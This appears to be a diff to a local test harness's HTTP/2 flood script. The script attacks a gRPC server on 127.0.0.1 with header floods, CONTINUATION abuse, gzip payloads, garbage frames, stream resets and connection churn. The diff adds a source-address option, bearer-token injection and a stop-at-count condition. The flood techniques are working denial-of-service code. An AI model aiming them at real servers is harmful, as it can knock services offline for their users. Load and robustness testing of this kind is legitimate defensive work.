@@ -1,8 +1,9 @@
 """One attacker over raw HTTP/2 frames, as a separate process: python flood.py KIND PORT CONNECTIONS
-SECONDS SEED [--ca FILE] [--message FILE]
+SECONDS SEED [--source ADDRESS] [--ca FILE] [--token FILE] [--message FILE]
+[--until NAME COUNT]
 
-It floods 127.0.0.1:PORT from the address 127.0.0.2, with TLS if an authority is given, and opens
-each connection again that was closed. At the end it prints a JSON object: what it sent, and what
+It floods 127.0.0.1:PORT from another loopback address, with TLS if an authority is given, and opens
+each connection again that was closed. It ends after SECONDS, or once it has counted COUNT of NAME. At the end it prints a JSON object: what it sent, and what
 the other side did with it. Nothing that it sends depends on what it receives, except flow control.
 """
 
@@ -19,7 +20,8 @@ import socket
 import ssl
 import struct
 import time
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
+from pathlib import Path
 
 import hpack
 
@@ -86,9 +88,9 @@ def garbage(rng: random.Random) -> Iterator[bytes]:
     yield rng.randbytes(1000)
 
 
-def content(kind: str, message: bytes, rng: random.Random) -> Iterator[bytes]:
+def content(kind: str, token: list[tuple[str, str]], message: bytes, rng: random.Random) -> Iterator[bytes]:
     """Returns what one connection sends after its preface."""
-    short = header_block()
+    short = header_block(*token)
     data = struct.pack(">BI", 0, len(message)) + message
     cancel = (RST_STREAM, 0, struct.pack(">I", 8))
     if kind == "headers":  # 60 KB of metadata for each call
@@ -117,7 +119,7 @@ def content(kind: str, message: bytes, rng: random.Random) -> Iterator[bytes]:
         return once(frame(HEADERS, END_HEADERS, 1, short) + frame(DATA, 0, 1, data[:2]))
     if kind == "gzip":
         packed = struct.pack(">BI", 1, len(message)) + message
-        return once(frame(HEADERS, END_HEADERS, 1, header_block(("grpc-encoding", "gzip"))) + b"".join(
+        return once(frame(HEADERS, END_HEADERS, 1, header_block(*token, ("grpc-encoding", "gzip"))) + b"".join(
             frame(DATA, END_STREAM if at + FRAME_BYTES >= len(packed) else 0, 1, packed[at:at + FRAME_BYTES])
             for at in range(0, len(packed), FRAME_BYTES)))
     if kind == "garbage":
@@ -128,12 +130,12 @@ def content(kind: str, message: bytes, rng: random.Random) -> Iterator[bytes]:
 class Connection:
     """One connection to the victim; `seen` counts what came back."""
 
-    def __init__(self, args: argparse.Namespace, message: bytes, rng: random.Random, seen: collections.Counter) -> None:
+    def __init__(self, args: argparse.Namespace, sent: Iterator[bytes], seen: collections.Counter) -> None:
         self.seen = seen
         self.unsent = PREFACE + frame(SETTINGS, 0, 0)
         if args.kind.endswith("continuations"):
             self.unsent += frame(HEADERS, 0, 1, header_block())
-        self.content = content(args.kind, message, rng)
+        self.content = sent
         self.received = bytearray()
         self.headers = hpack.Decoder()
         self.socket = dial(args)
@@ -176,7 +178,7 @@ class Connection:
 
 
 def dial(args: argparse.Namespace) -> socket.socket:
-    plain = socket.create_connection(("127.0.0.1", args.port), timeout=5, source_address=("127.0.0.2", 0))
+    plain = socket.create_connection(("127.0.0.1", args.port), timeout=5, source_address=(args.source, 0))
     if not args.ca:
         return plain
     context = ssl.create_default_context(cafile=args.ca)
@@ -188,25 +190,28 @@ def dial(args: argparse.Namespace) -> socket.socket:
         raise
 
 
-def churn(args: argparse.Namespace, seen: collections.Counter, end: float) -> None:
-    """Opens and closes connections."""
-    while time.monotonic() < end:
+def churn(args: argparse.Namespace, seen: collections.Counter, running: Callable[[], bool]) -> None:
+    """Opens and closes connections. One in ten makes the handshake, and so learns whether it was refused."""
+    while running():
         try:
+            for _ in range(9):
+                socket.create_connection(("127.0.0.1", args.port), timeout=5, source_address=(args.source, 0)).close()
             dial(args).close()
             seen["opened"] += 1
         except OSError:
             seen["refused"] += 1
 
 
-def flood(args: argparse.Namespace, seen: collections.Counter, end: float) -> None:
+def flood(args: argparse.Namespace, seen: collections.Counter, running: Callable[[], bool]) -> None:
     rng = random.Random(args.seed)
-    message = open(args.message, "rb").read() if args.message else b""
+    message = Path(args.message).read_bytes() if args.message else b""
+    token = [("authorization", "Bearer " + Path(args.token).read_text().strip())] if args.token else []
     live: list[Connection] = []
     missing, reconnect_at = args.connections, 0.0
-    while time.monotonic() < end:
+    while running():
         if missing and time.monotonic() >= reconnect_at:
             try:
-                live.append(Connection(args, message, rng, seen))
+                live.append(Connection(args, content(args.kind, token, message, rng), seen))
                 missing -= 1
                 seen["opened"] += 1
             except OSError:
@@ -216,8 +221,8 @@ def flood(args: argparse.Namespace, seen: collections.Counter, end: float) -> No
         for each in list(live):
             try:
                 each.pump()
-            except (OSError, EOFError) as error:
-                seen["closed" if isinstance(error, EOFError) else "cut"] += 1
+            except (OSError, EOFError):
+                seen["ended"] += 1
                 each.socket.close()
                 live.remove(each)
                 missing += 1
@@ -232,14 +237,21 @@ def main() -> None:
     parser.add_argument("connections", type=int)
     parser.add_argument("seconds", type=float)
     parser.add_argument("seed", type=int)
+    parser.add_argument("--source", default="127.0.0.2")
     parser.add_argument("--ca")
+    parser.add_argument("--token")
     parser.add_argument("--message")
+    parser.add_argument("--until", nargs=2, metavar=("NAME", "COUNT"))
     args = parser.parse_args()
     # An attacker has a machine of its own; here it shares the cores of its victims.
     os.nice(10)
     seen: collections.Counter = collections.Counter()
     end = time.monotonic() + args.seconds
-    (churn if args.kind == "churn" else flood)(args, seen, end)
+
+    def running() -> bool:
+        return time.monotonic() < end and not (args.until and seen[args.until[0]] >= int(args.until[1]))
+
+    (churn if args.kind == "churn" else flood)(args, seen, running)
     print(json.dumps(seen), flush=True)
 
 
